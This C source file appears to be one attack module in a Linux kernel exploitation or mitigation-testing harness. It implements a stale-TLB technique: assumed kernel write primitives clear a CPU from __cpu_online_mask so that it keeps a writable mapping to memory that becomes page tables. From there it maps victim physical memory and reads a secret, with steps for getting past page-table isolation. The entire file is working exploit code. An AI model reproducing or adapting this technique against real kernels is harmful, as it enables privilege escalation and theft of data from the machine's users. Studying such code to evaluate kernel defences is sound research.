// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attack by way of when a key is in force. The kernel has all CPUs of a mask
 * forget old mappings. One that was taken out of it keeps the memory writable
 * that has become page tables. With page-table isolation a CPU forgets by
 * itself under an emulator, whenever it enters the kernel.
 */
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <sys/mman.h>
#include <unistd.h>

#include "attack.h"
#include "list.h"
#include "objects.h"

#define MASK		"__cpu_online_mask"
#define FIRST_CPU	1
#define FORCE_PART	0x5c
#define TABLES		6144
#define CHOSEN		20	/* page of the block */
#define PATIENCE	3	/* seconds */

/* What the other CPU is to store; it does not sleep, lest it forgets. */
static struct order {
	volatile int pending, err;
	volatile uint64_t addr, value;
} *order;

static int start_other_cpu(void)
{
	int pid;

	order = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	pid = fork();
	if (pid)
		return pid;
	stay_on_cpu(1);
	for (;;) {
		while (!order->pending)
			;
		order->err = kwrite64(order->addr, order->value);
		order->pending = 0;
	}
}

static int store_on_other_cpu(const void *how, uint64_t addr, uint64_t value)
{
	(void)how;
	order->addr = addr;
	order->value = value;
	order->pending = 1;
	while (order->pending)
		;
	return order->err;
}

/* A kernel that waits for the CPU makes no table: then the mask is put back. */
static int put_back_later(uint64_t mask, uint64_t old)
{
	int pid = fork();

	if (pid)
		return pid;
	for (;;) {
		sleep(PATIENCE);
		kwrite64(mask, old);
	}
}

/* Is it one of those that the pool takes when it has used up its blocks? */
static bool is_in_chunk(const struct window *window)
{
	struct slot slot;

	return !kwalk(window->slot, LEAF, 0, &slot) && slot.level == LEVEL_PTE;
}

/*
 * The pool is emptied first; without one any table will do. The CPU is out of
 * the mask from then on only: threads of its own that were to be woken
 * meanwhile would be moved to another, and die.
 */
static bool wait_for_table(volatile char *base, uint64_t page, uint64_t mask, struct window *window)
{
	bool is_out = false;
	int i;

	for (i = 1; i < TABLES; i++) {
		(void)base[i * PMD_SIZE];
		if (!window_open_behind(window, base + i * PMD_SIZE))
			return false;
		if (!is_protected() || (window->slot & -PAGE_SIZE) == page)
			return true;
		if (!is_out && is_in_chunk(window)) {
			is_out = true;
			kwrite64(mask, FIRST_CPU);
			store_on_other_cpu(NULL, page, 0);
			corrupt_command("free addr=0x%lx", page & -PMD_SIZE);
		}
	}
	return false;
}

static enum outcome store_with_old_mapping(volatile char *base, uint64_t page, uint64_t mask)
{
	struct window window;
	char text[64];
	int err;

	if (!wait_for_table(base, page, mask, &window))
		return broken("none of %d tables is in the block", TABLES);
	err = window_map(&window, store_on_other_cpu, NULL, victim_phys());
	snprintf(text, sizeof(text), "%s", window.page);
	store_on_other_cpu(NULL, window.slot, 0);
	return judge_secret(text, err);
}

enum outcome cpu_mask(void)
{
	volatile char *base = sparse_region(user_room(FORCE_PART), TABLES, PROT_READ);
	int order_of_block = __builtin_ctzl(PMD_SIZE / PAGE_SIZE), other, later;
	uint64_t mask = ksymbol(MASK), old, block;
	enum outcome outcome;

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	if (!base || !mask || corrupt_command("alloc order=%d", order_of_block))
		return broken("no block, or no mask");
	block = corrupt_answer("address");
	stay_on_cpu(0);
	other = start_other_cpu();
	old = kread64(mask);
	later = put_back_later(mask, old);
	(void)base[0];
	if (is_protected())
		use_up_blocks();
	outcome = store_with_old_mapping(base, block + CHOSEN * PAGE_SIZE, mask);
	kwrite64(mask, old);
	kill(later, SIGKILL);
	kill(other, SIGKILL);
	corrupt_command("free");
	return outcome;
}
